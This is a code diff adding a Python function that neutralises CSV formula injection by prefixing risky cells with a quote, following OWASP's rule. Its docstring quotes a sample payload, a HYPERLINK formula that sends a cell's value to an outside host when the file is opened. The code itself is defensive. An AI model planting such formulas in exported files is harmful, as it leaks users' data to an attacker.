@@ -53,6 +53,20 @@ def escape_markdown(s: str) -> str:
     return _MARKDOWN.sub(r"\\\1", html.escape(str(s), quote=False))
 
 
+# What a spreadsheet (Excel, LibreOffice) takes for the start of a formula in a CSV cell (OWASP's CSV-injection list)
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_text(s: str) -> str:
+    """A text cell of a CSV written for people, as a spreadsheet shows it as text: one starting with = + - @, a tab
+    or a carriage return gets a leading single quote (OWASP's rule), unless it is a plain number (``-5``). Why: a
+    manifest's case id or structure such as ``=HYPERLINK("http://host/?"&A1, "open")`` ran as a formula when
+    per_case.csv was opened (session 23)."""
+    s = str(s)
+    return "'" + s if s.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(s) else s
+
+
 class UntrustedFileError(ValueError):
     """A path that is not a regular file we may open; the readers turn it into a StudyError."""
 
